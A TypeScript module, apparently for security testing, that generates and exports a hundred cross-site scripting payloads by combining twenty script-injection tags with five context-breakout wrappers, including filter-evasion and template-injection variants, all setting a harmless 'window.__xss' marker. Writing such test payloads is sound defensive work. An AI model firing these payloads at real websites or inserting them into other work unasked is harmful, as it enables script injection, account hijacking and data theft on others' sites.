/** What would set `window.__xss` if a page let it run. */
const deed = 'window.__xss=1';

const tags = [
  `<script>${deed}</script>`,
  `<ScRiPt>${deed}</sCrIpT>`,
  `<scr<script>ipt>${deed}</scr</script>ipt>`,
  `<img src=x onerror=${deed}>`,
  `<img src=x:x onerror="${deed}"//`,
  `<svg onload=${deed}>`,
  `<svg><script>${deed}</script></svg>`,
  `<svg><animate onbegin=${deed} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${deed}"><text y=20>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${deed}>`,
  `<iframe src="javascript:${deed}"></iframe>`,
  `<iframe srcdoc="<script>parent.${deed}</script>"></iframe>`,
  `<object data="javascript:${deed}"></object>`,
  `<embed src="javascript:${deed}">`,
  `<a href="javascript:${deed}" autofocus onfocus=${deed}>x</a>`,
  `<input autofocus onfocus=${deed}>`,
  `<details open ontoggle=${deed}>`,
  `<video><source onerror=${deed}></video>`,
  `<audio src=x onerror=${deed}>`,
  `<body onload=${deed}>`,
];

/** Ways out of an attribute, a text, a script, a template, a style, a link. */
const frames: readonly ((tag: string) => string)[] = [
  (tag) => tag,
  (tag) => `">${tag}`,
  (tag) => `'/></title></style></textarea>${tag}`,
  (tag) => `\${${tag}}{{constructor.constructor('${deed}')()}}`,
  (tag) => `-->${tag}<!--`,
];

/** A hundred names, none longer than a name may be. */
export const xssPayloads: readonly string[] = frames
  .flatMap((frame) => tags.map(frame))
  .map((name) => name.slice(0, 200));
